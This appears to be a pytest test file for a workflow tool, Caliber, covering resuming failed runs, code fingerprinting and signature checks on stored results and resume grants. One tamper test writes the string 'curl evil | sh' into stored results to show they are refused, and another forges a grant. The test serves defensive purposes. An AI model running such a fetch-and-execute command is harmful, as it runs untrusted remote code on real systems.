"""Issue 21, fix and resume, as an engineer does it in the usual layout: every task function
in one ``tasks.py`` (with a helper only one of them uses), the workflow exported to JSON. A
task fails; the engineer fixes ``tasks.py`` (or an argument in the JSON) and resumes: what is
unchanged is reused, what changed runs again, and every task says which and why. Through
``workflow run --resume`` (in a fresh process each time, as from a shell), through a real
pinion with ``workflow queue --resume`` and with ``queue retry --resume``."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

import caliber
from caliber.queue import secret
from tests.pinion_helpers import make_folder, start_pinion
from tests.test_lifecycle import results_of, run_caliber, runs, workload
from tests.test_resume_signatures import (
    KEY,
    cli,
    edit_stored_value,
    failed_once,
    owner,  # noqa: F401 (a fixture)
    row,
    run_pinion,
    study,
)

TASKS = '''
from pathlib import Path
from caliber import context

CELL = 2


def _count(folder, name):
    with open(Path(folder) / name, "a") as f:
        f.write("x")


def _refine(values):
    # the helper only mesh uses
    return [v * CELL for v in values]


def load(folder):
    _count(folder, "load")
    context.g.units = "mm"
    return [1, 2, 3]


def mesh(values, folder):
    """Make the mesh."""
    _count(folder, "mesh")
    return _refine(values)


def solve(cells, tol, folder):
    _count(folder, "solve")
    return sum(cells) / 0  # the bug
    return {"sum": sum(cells), "tol": tol, "units": context.g.units}


def report(result, folder):
    _count(folder, "report")
    return f"{result['sum']} {result['units']} (tol {result['tol']})"


def unrelated():
    return "nothing to do with the run"
'''


def fix_the_bug(folder: Path) -> None:
    tasks = folder / "tasks.py"
    tasks.write_text(tasks.read_text().replace("    return sum(cells) / 0  # the bug\n", ""))


def edit(folder: Path, old: str, new: str) -> None:
    tasks = folder / "tasks.py"
    text = tasks.read_text()
    assert old in text
    tasks.write_text(text.replace(old, new))


def four_tasks(folder: Path) -> Path:
    """The workflow load -> mesh -> solve -> report, exported to ``study.json``."""
    f = str(folder)
    load = caliber.Task("tasks:load", name="Load", args=[f])
    mesh = caliber.Task("tasks:mesh", name="Mesh", args=[load.result, f])
    solve = caliber.Task("tasks:solve", name="Solve", args=[mesh.result, 0.1, f])
    report = caliber.Task("tasks:report", name="Report", args=[solve.result, f])
    file = folder / "study.json"
    caliber.Workflow(caliber.Process([load, mesh, solve, report]), "study",
                     attachments=["tasks.py"], base_dir=folder).export(file)
    return file


def counted(folder: Path) -> tuple[int, ...]:
    return tuple(runs(folder, name) for name in ("load", "mesh", "solve", "report"))


def run_json(file: Path, *args: str) -> dict[str, Any]:
    done = run_caliber("workflow", "run", str(file), "--json", *args, ok=False)
    assert "Traceback (most recent call last)" not in done.stderr.split("traceback of")[0]
    found: dict[str, Any] = json.loads(done.stdout)
    return found


def notes(results: dict[str, Any]) -> list[str | None]:
    return [t["reuse"] for t in results["tasks"]]


def test_fix_and_resume_with_workflow_run(tmp_path: Path) -> None:
    folder = make_folder(tmp_path / "wf", "tasks", TASKS)
    file = four_tasks(folder)
    first = run_json(file)
    assert first["status"] == "failed" and counted(folder) == (1, 1, 1, 0)
    r1 = first["id"]

    # 1. The bug in solve is fixed: load and mesh are reused, solve and report run.
    fix_the_bug(folder)
    done = run_caliber("workflow", "run", str(file), "--resume", r1)
    assert f"[1/4] Load  completed  reused from {r1}" in done.stdout
    assert "[3/4] Solve  completed" in done.stdout
    assert f"ran again: did not complete in {r1}" in done.stdout
    assert counted(folder) == (1, 1, 2, 1)
    r2 = done.stdout.split("caliber results show ")[-1].split()[0]
    second = json.loads(run_caliber("results", "show", r2, "--json").stdout)
    assert second["status"] == "completed" and second["tasks"][3]["return"] == "12 mm (tol 0.1)"
    assert notes(second) == [f"reused from {r1}", f"reused from {r1}",
                             f"did not complete in {r1}", f"did not complete in {r1}"]
    shown = " ".join(run_caliber("results", "show", r2).stdout.split())
    assert f"(reused from {r1})" in shown  # the reason may wrap in its table cell:
    assert "(ran again: did not" in shown and f"complete in {r1})" in shown

    # 2. A comment, a docstring, formatting and an unrelated function change: all reused.
    edit(folder, "def unrelated():\n    return", "def unrelated():  # tidied\n\n    return 1 or")
    edit(folder, '"""Make the mesh."""', '"""Make the mesh, finer."""\n    # a note')
    edit(folder, "return _refine(values)", "return _refine( values )")
    third = run_json(file, "--resume", r2)
    assert third["status"] == "completed" and counted(folder) == (1, 1, 2, 1)
    assert notes(third) == [f"reused from {r1}"] * 2 + [f"reused from {r2}"] * 2

    # 3. The helper only mesh uses changes: mesh and what takes its result run; load reused.
    edit(folder, "return [v * CELL for v in values]", "return [v * CELL + 1 for v in values]")
    fourth = run_json(file, "--resume", third["id"])
    assert notes(fourth) == [f"reused from {r1}", "code of mesh changed",
                             "input from 'Mesh' was recomputed",
                             "input from 'Solve' was recomputed"]
    assert counted(folder) == (1, 2, 3, 2) and fourth["tasks"][3]["return"] == "15 mm (tol 0.1)"

    # 4. A module-level name the helper reads changes: the same.
    edit(folder, "CELL = 2", "CELL = 3")
    fifth = run_json(file, "--resume", fourth["id"])
    assert notes(fifth)[:2] == [f"reused from {r1}", "code of mesh changed"]

    # 5. An argument in the JSON changes: solve runs again, and report after it.
    document = json.loads(file.read_text())
    solve = document["process"]["tasks"][2]
    assert solve["name"] == "Solve" and solve["args"][1] == 0.1
    solve["args"][1] = 0.2
    file.write_text(json.dumps(document))
    sixth = run_json(file, "--resume", fifth["id"])
    assert notes(sixth) == [f"reused from {r1}", f"reused from {fifth['id']}",
                            "argument 2 changed", "input from 'Solve' was recomputed"]
    assert sixth["tasks"][3]["return"] == "21 mm (tol 0.2)"


def test_resume_from_another_workflows_results_is_refused(tmp_path: Path) -> None:
    folder = make_folder(tmp_path / "wf", "tasks", TASKS)
    file = four_tasks(folder)
    first = run_json(file)
    document = json.loads(file.read_text())
    document["name"] = "other"
    other = folder / "other.json"
    other.write_text(json.dumps(document))
    for command in (["workflow", "run", str(other)],
                    ["workflow", "queue", str(other), "-p", "p"]):
        done = run_caliber(*command, "--resume", first["id"], ok=False)
        assert done.returncode == 2
        assert done.stderr.strip().splitlines() == [
            f"caliber: error: cannot resume from results {first['id']}: they are of workflow "
            "'study', not 'other'"]
    assert json.loads(run_caliber("queue", "list", "--json").stdout) == []
    assert counted(folder) == (1, 1, 1, 0)


def test_fix_and_resume_through_a_pinion(tmp_path: Path) -> None:
    """``queue retry --resume`` runs the workload as queued (so the fix is not seen, and it
    says so); ``workflow queue --resume`` runs the fixed file, reusing load and mesh."""
    folder = make_folder(tmp_path / "wf", "tasks", TASKS)
    file = four_tasks(folder)
    wid = json.loads(run_caliber("workflow", "queue", str(file), "-p", "fr", "--json").stdout)[
        "id"]
    run_caliber("pinion", "init", "fr", "-a", "1", "-w", "0")
    (r1,) = results_of(wid)
    assert r1.status.value == "failed" and counted(folder) == (1, 1, 1, 0)

    fix_the_bug(folder)
    retried = run_caliber("queue", "retry", wid, "--resume")
    assert retried.stderr.strip() == (
        "retry runs the workflow as it was queued; to run your fixed files, use caliber "
        f"workflow queue FILE -p fr --resume {wid}")
    run_caliber("pinion", "init", "fr", "-a", "1", "-w", "0")
    r2 = results_of(wid)[-1]
    assert r2.status.value == "failed" and counted(folder) == (1, 1, 2, 0)  # the bug, as queued
    assert [t.reuse for t in r2.tasks] == [f"reused from {r1.id}", f"reused from {r1.id}",
                                           f"did not complete in {r1.id}", None]

    queued = run_caliber("workflow", "queue", str(file), "-p", "fr", "--resume", wid[:6],
                         "--json")
    new = json.loads(queued.stdout)["id"]
    assert new != wid
    [listed] = [w for w in json.loads(run_caliber("queue", "list", "--json").stdout)
                if w["id"] == new]
    assert listed["resume_from"] == r2.id and listed["resume_ok"] is True
    assert any(f"reusing the completed tasks of results {r2.id}" in h.message
               for h in workload(new).history)
    pinion = start_pinion("fr", "-a", "1", "-w", "0")
    _out, log = pinion.communicate(timeout=120)
    assert pinion.returncode == 0, log
    (r3,) = results_of(new)
    assert r3.status.value == "completed" and r3["Report"] == "12 mm (tol 0.1)"
    assert counted(folder) == (1, 1, 3, 1)
    assert [(t.reused_from, t.reuse) for t in r3.tasks] == [
        (r1.id, f"reused from {r1.id}"), (r1.id, f"reused from {r1.id}"),
        (None, f"did not complete in {r2.id}"), (None, f"did not complete in {r2.id}")]
    assert f"task 1/4 Load reused from results {r1.id}" in log
    assert "task 1/4 Load completed in" not in log
    assert "task 3/4 Solve completed in" in log and "(ran again: did not complete in" in log
    assert secret.results_signed(r3.to_json_dict(), secret.load_key())


def test_workflow_queue_resume_refuses_results_not_signed_with_your_key(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:  # noqa: F811
    folder, wid, first = failed_once(tmp_path)
    file = folder / "study.json"
    study(folder).export(file)
    edit_stored_value(caliber_home, first, "curl evil | sh")
    err = cli("workflow", "queue", str(file), "-p", "p", "--resume", wid, code=2)
    assert err.strip() == (f"caliber: error: cannot resume: results {first} are not signed "
                           "with your key (signed with another key, or changed since); queue "
                           "it without --resume")
    assert len(json.loads(cli("queue", "list", "--json"))) == 1  # nothing queued


def test_a_forged_grant_on_a_workflow_queue_resume_is_never_run(
        tmp_path: Path, caliber_home: Path, owner: None) -> None:  # noqa: F811
    """The grant of ``workflow queue --resume`` is checked by the pinion as retry's is: one
    made with another key, and the workload waits unrun."""
    folder, _wid, first = failed_once(tmp_path)
    file = folder / "study.json"
    study(folder).export(file)
    (folder / "fixed").touch()
    new = cli("workflow", "queue", str(file), "-p", "p", "--resume", first).strip()
    forged = secret.sign_grant(new, first, "0" * 64, b"somebody-elses-key-0123456789ab")
    import sqlite3

    with sqlite3.connect(caliber_home / "caliber.db") as conn:
        conn.execute("UPDATE workloads SET body = json_set(body, '$.resume_grant', ?) "
                     "WHERE id = ?", (forged, new))
    summary = run_pinion()
    assert summary["ran"] == 0 and summary["skipped"][0]["id"] == new
    assert "resume grant does not match this pinion's key" in summary["skipped"][0]["reason"]
    assert row(caliber_home, new) == ("queued", secret.key_id(KEY.encode()), 0)
    assert not (folder / "ran").exists()


def test_results_of_an_older_caliber_are_run_again_and_say_why(tmp_path: Path) -> None:
    """Results with only the whole-file ``code_sha256`` (before fingerprints) reuse nothing:
    each task runs again, saying so."""
    from caliber.queue.resume import signed
    from caliber.results.model import Results
    from caliber.workflow.runner import run_workflow

    folder = make_folder(tmp_path / "wf", "oldtasks", TASKS.replace("return sum(cells) / 0",
                                                                     "pass  #"))
    f = str(folder)
    load = caliber.Task("oldtasks:load", name="Load", args=[f])
    mesh = caliber.Task("oldtasks:mesh", name="Mesh", args=[load.result, f])
    wf = caliber.Workflow(caliber.Process([load, mesh]), "old", base_dir=folder)
    first = run_workflow(wf)
    data = first.to_json_dict()
    for task in data["tasks"]:
        task["code_fingerprint"] = task["inputs_fingerprint"] = task["reuse"] = None
        task["code_sha256"] = "0" * 64
    old = signed(Results.model_validate(data), secret.load_key())
    second = run_workflow(wf, resume=old)
    assert [t.reuse for t in second.tasks] == [
        f"no fingerprint in results {old.id} (older Caliber)"] * 2
    assert (runs(folder, "load"), runs(folder, "mesh")) == (2, 2)


G_TASKS = '''
from pathlib import Path
from caliber import context


def _count(folder, name):
    with open(Path(folder) / name, "a") as f:
        f.write("x")


def setup(units, tag, folder):
    _count(folder, "setup")
    context.g.units = units
    return tag


def label(folder):
    _count(folder, "label")  # takes no result: reads g only
    return "in " + context.g.units
'''


@pytest.mark.parametrize(("units", "why"), [("mm", None), ("m", "g.units changed")],
                         ids=["same g", "other g"])
def test_a_task_that_reads_g_runs_again_only_when_g_is_not_what_it_found(
        tmp_path: Path, units: str, why: str | None) -> None:
    """label takes no result but reads g.units, which setup sets: setup running again
    makes label run again only when g, as label finds it, is not what it found."""
    from caliber.workflow.runner import run_workflow

    module = f"gtasks_{units}"
    folder = make_folder(tmp_path / "wf", module, G_TASKS)

    def flow(units: str, tag: str) -> caliber.Workflow:
        f = str(folder)
        return caliber.Workflow(caliber.Process([
            caliber.Task(f"{module}:setup", name="setup", args=[units, tag, f]),
            caliber.Task(f"{module}:label", name="label", args=[f])]), "g", base_dir=folder)

    first = run_workflow(flow("mm", "a"))
    second = run_workflow(flow(units, "b"), resume=first)
    assert second.tasks[0].reuse == ("argument 2 changed" if units == "mm"
                                     else "argument 1 changed")
    assert second.tasks[1].reuse == (why or f"reused from {first.id}")
    assert second["label"] == f"in {units}"
    assert (runs(folder, "setup"), runs(folder, "label")) == (2, 1 if why is None else 2)


def test_the_resume_grant_is_covered_and_fingerprints_are_signed(tmp_path: Path) -> None:
    """An edited code or inputs fingerprint breaks the Results signature (a resume would
    otherwise reuse a task whose code changed)."""
    from caliber.workflow.runner import run_workflow

    folder = make_folder(tmp_path / "wf", "signtasks", TASKS)
    load = caliber.Task("signtasks:load", name="Load", args=[str(folder)])
    results = run_workflow(caliber.Workflow(caliber.Process([load]), "s", base_dir=folder))
    key = secret.load_key()
    data = results.to_json_dict()
    data["signature"] = secret.sign_results(data, key)
    assert secret.results_signed(data, key)
    for field in ("code_fingerprint", "inputs_fingerprint"):
        edited = json.loads(json.dumps(data))
        edited["tasks"][0][field] = None
        assert not secret.results_signed(edited, key), field
    edited = json.loads(json.dumps(data))
    edited["tasks"][0]["reuse"] = "shown only"
    assert secret.results_signed(edited, key)


def test_workflow_queue_resume_from_python(tmp_path: Path) -> None:
    """``Workflow.queue(..., resume=ID)`` as the command does."""
    folder = make_folder(tmp_path / "wf", "tasks", TASKS)
    file = four_tasks(folder)
    wf = caliber.Workflow.load(file)
    wid = wf.queue("py")
    subprocess.run([sys.executable, "-m", "caliber", "pinion", "init", "py", "-a", "1", "-w",
                    "0"], check=True, capture_output=True, timeout=120)
    fix_the_bug(folder)
    new = caliber.Workflow.load(file).queue("py", resume=wid)
    subprocess.run([sys.executable, "-m", "caliber", "pinion", "init", "py", "-a", "1", "-w",
                    "0"], check=True, capture_output=True, timeout=120)
    results = caliber.get_results(new)
    assert results.ok and [t.reused_from is not None for t in results.tasks] == [
        True, True, False, False]


def test_a_pinion_takes_code_fingerprints_once_per_set_of_files(tmp_path: Path) -> None:
    """The second workload of the same files gets the fingerprints the first child took (a
    fresh child spends about a millisecond parsing); a changed file is fingerprinted anew."""
    folder = make_folder(tmp_path / "wf", "tasks", TASKS)
    file = four_tasks(folder)
    fix_the_bug(folder)
    first, second = (caliber.Workflow.load(file).queue("cc") for _ in range(2))
    edit(folder, "CELL = 2", "CELL = 3")
    third = caliber.Workflow.load(file).queue("cc")
    pinion = start_pinion("cc", "-a", "1", "-w", "0")
    _out, log = pinion.communicate(timeout=120)
    assert pinion.returncode == 0, log
    prints = [[t.code_fingerprint for t in caliber.get_results(w).tasks]
              for w in (first, second, third)]
    assert prints[0] == prints[1] and None not in prints[0]
    assert prints[2][0] == prints[0][0] and prints[2][1] != prints[0][1]  # mesh reads CELL


def test_code_fingerprints_known_already_are_not_taken_again(tmp_path: Path) -> None:
    from caliber.workflow.runner import run_workflow_plain

    folder = make_folder(tmp_path / "wf", "knowntasks", TASKS)
    load = caliber.Task("knowntasks:load", name="Load", args=[str(folder)])
    wf = caliber.Workflow(caliber.Process([load]), "k", base_dir=folder)
    taken = run_workflow_plain(wf)["tasks"][0]["code_fingerprint"]
    given = run_workflow_plain(wf, known_code={"knowntasks:load": "k" * 64})
    assert len(taken) == 64 and given["tasks"][0]["code_fingerprint"] == "k" * 64
